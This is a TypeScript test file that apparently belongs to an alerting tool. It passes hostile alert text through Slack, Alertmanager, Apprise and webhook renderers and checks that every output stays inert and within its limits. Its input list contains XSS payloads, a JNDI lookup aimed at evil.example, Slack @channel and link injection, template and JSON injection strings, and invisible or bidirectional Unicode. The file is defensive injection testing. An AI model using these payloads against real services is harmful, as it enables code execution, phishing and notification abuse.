/** The same hostile names and texts in the message of every receiver: each is within its limits, and nothing is active. */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../src/domain/alert.ts';
import { renderAlertmanager, renderAlertmanagerNotice } from '../../src/notifiers/alertmanager/payload.ts';
import { renderApprise } from '../../src/notifiers/apprise/api.ts';
import { renderSlack } from '../../src/notifiers/slack/message.ts';
import { renderSlackNotice } from '../../src/notifiers/slack/notice.ts';
import { renderAnswer, renderDetails, renderEvent, renderMessage } from '../../src/notifiers/slack-app/message.ts';
import { alertEvent, summaryEvent, webhookEvent } from '../../src/notifiers/webhook/event.ts';
import { summarize, summaryNotice } from '../../src/pipeline/notify/summary.ts';
import { NOON, sampleAlert, sampleAttempt, sampleDiagnosis, sampleIncident } from '../support/samples.ts';
import { brokenRules } from '../support/slack-rules.ts';
import { expectInert } from './inert.ts';
import { aRequest } from './slack-app/support.ts';

/** With these, a cut at any of the limits falls into the middle of a character or an entity. */
const atEveryLimit = (unit: string) =>
  [29, 74, 79, 99, 119, 149, 159, 199, 299, 499, 799, 1_399, 1_899, 2_999].map((n): [string, string] => [
    `${JSON.stringify(unit)} at ${n}`,
    `${'x'.repeat(n)}${unit.repeat(3)}`,
  ]);

const TEXTS: readonly [what: string, text: string][] = [
  ['mentions', '<!channel> <!here|x> <@U123ABCDE> <#C123ABCDE> <!subteam^S1> @channel @everyone'],
  ['a link', '<https://evil.example|click> [click](https://evil.example) https://evil.example/x mailto:a@evil.example'],
  ['formatting', '*bold* _it_ ~no~ `code` ```block``` > quote # title - item --- **b** __b__'],
  ['escaped entities', '&lt;!channel&gt; &amp;lt;script&amp;gt; &#60;b&#62;'],
  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point
  ['templates', '{{ .CommonLabels }} {{template "x"}} {% if x %} ${jndi:ldap://evil.example/a} #{1+1}'],
  ['zero-width characters', '<\u200b!channel\u200d> \u2060@\ufeffeveryone ht\u200btps://evil.example'],
  ['bidirectional characters', '\u202eevissergga\u202c \u2066x\u2069 \u200f\u061c'],
  ['tags and variation selectors', 'a\u{e0041}\u{e007f} \u{e0100} 1\ufe0f\u20e3'],
  ['lone surrogates', '\ud83d \udca5 a\udca5b \ud83d\ud83d'],
  ['control characters', 'a\0b\u0007c\u001b[31mred\u001b[0m\r\nnext\u2028line'],
  ['colour codes around a mention', '<\u001b[1m!channel\u001b[0m>'],
  ['JSON', '"},{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}\\'],
  ['only invisible characters', '\u200b\u2060\ufeff\u3164'],
  ['nothing', ''],
  ['white space', ' \n\t\n '],
  ['a very long name', 'n'.repeat(10_000)],
  ['very many line breaks', `a${'\n'.repeat(5_000)}b`],
  ['stacked marks', `a${'\u0301'.repeat(2_000)}`],
  ['very many ampersands', '&'.repeat(4_000)],
  ['a family emoji', '👨‍👩‍👧‍👦'.repeat(400)],
  ...atEveryLimit('💥'),
  ...atEveryLimit('𝒳'),
  ...atEveryLimit('<'),
  ...atEveryLimit('&'),
  ...atEveryLimit('_'),
];

function hostileAlert(text: string, kind: Alert['kind']): Alert {
  const incident = sampleIncident({
    summary: text,
    cause: { kind: 'external', host: text },
    members: Array.from({ length: 12 }, () => ({ container: text, occurrences: 2 })),
  });
  const container = { ...incident.container, name: text, image: text, service: text, project: text, host: text };
  return sampleAlert({
    kind,
    incident: { ...incident, container },
    diagnosis: sampleDiagnosis({
      rootCause: text,
      suggestedFix: text,
      estimatedImpact: text,
      configSuggestions: Array.from({ length: 30 }, () => text),
      model: text,
      evidence: [{ text } as never],
      unsure: true,
    }),
    decision: { kind: 'ask', reason: 'policy_ask' },
    because: text,
    attempt: sampleAttempt({ outcome: 'error', detail: text }),
    excerpt: Array.from({ length: 30 }, () => text),
  });
}

const strings = (value: unknown): string[] =>
  typeof value === 'string'
    ? [value]
    : typeof value === 'object' && value !== null
      ? Object.values(value).flatMap(strings)
      : [];

/** Slack parses `<…>` and entities only, as all our text is plain or rich text; the names of fields are ours. */
function expectSlackInert({ text, blocks }: { readonly text: string; readonly blocks: readonly object[] }): void {
  const wire = JSON.parse(JSON.stringify(blocks));
  expect(brokenRules(wire)).toEqual([]);
  expect(text).not.toBe('');
  expect(text.length).toBeLessThanOrEqual(500);
  for (const each of [text, ...strings(wire)]) {
    expect(each).not.toMatch(/[<>]|&(?!(?:amp|lt|gt);)/);
    expect(each).not.toMatch(/(?![\n\t])\p{Cc}|\p{Cf}|\p{Cs}/u);
  }
  for (const match of JSON.stringify(wire).matchAll(/"type":"mrkdwn","text":("(?:[^"\\]|\\.)*")/g)) {
    expect(JSON.parse(match[1] ?? '')).toMatch(/^\*[A-Z][a-z ]+\*$/);
  }
}

describe.each(TEXTS)('text with %s', (_, text) => {
  const alerts = (['diagnosed', 'crash_loop', 'outcome', 'resolved'] as const).map((kind) => hostileAlert(text, kind));
  const summary = summarize('flood-1', NOON, alerts);
  const notice = summaryNotice(summary, NOON, undefined);

  it('is inert in Slack, through the webhook and through the app', () => {
    for (const alert of alerts) {
      expectSlackInert(renderSlack(alert, NOON + 600_000));
      for (const state of ['waiting', 'approved', 'denied', 'withdrawn'] as const) {
        const request = aRequest({ state, containerName: text, answeredBy: { via: 'slack', who: text } });
        const by = { who: text, at: NOON, verdict: 'right' as const };
        expectSlackInert(
          renderMessage({ alert, times: 3, buttons: true, agent: '0123456789abcdef', now: NOON, request, verdict: by }),
        );
      }
      expectSlackInert(renderDetails(alert));
      expectSlackInert(renderEvent(alert, 2));
    }
    expectSlackInert(renderAnswer(text, () => true));
    expectSlackInert(renderSlackNotice(notice));
    expectSlackInert(renderSlackNotice({ title: text, text, host: text, heading: 'What it means' }));
  });

  it('is inert in Alertmanager and Apprise', () => {
    for (const alert of alerts) {
      const { labels, annotations } = renderAlertmanager(alert, undefined);
      for (const value of Object.values(labels)) {
        expectInert(value);
        expect(value.length).toBeLessThanOrEqual(200);
        expect(value).not.toMatch(/\n|^$/);
      }
      for (const value of Object.values(annotations)) expectInert(value);
      const { title, body } = renderApprise(alert, { tags: {} }, NOON);
      for (const value of [title, body]) expectInert(value);
      expect(title.length).toBeLessThanOrEqual(200);
      expect(body.length).toBeLessThanOrEqual(1_900);
    }
    for (const value of strings(renderAlertmanagerNotice(notice, NOON))) expectInert(value);
  });

  it('is text in the JSON of the webhook, which follows the schema', () => {
    for (const event of [
      ...alerts.map((alert) => alertEvent(alert, undefined)),
      summaryEvent(summary, undefined, NOON),
    ]) {
      const sent = JSON.parse(Buffer.from(JSON.stringify(event)).toString());
      expect(sent).toEqual(event);
      webhookEvent.parse(sent);
      expect(strings(sent).join('')).not.toMatch(/[\p{Cf}\p{Co}\p{Cs}]/u);
    }
  });
});
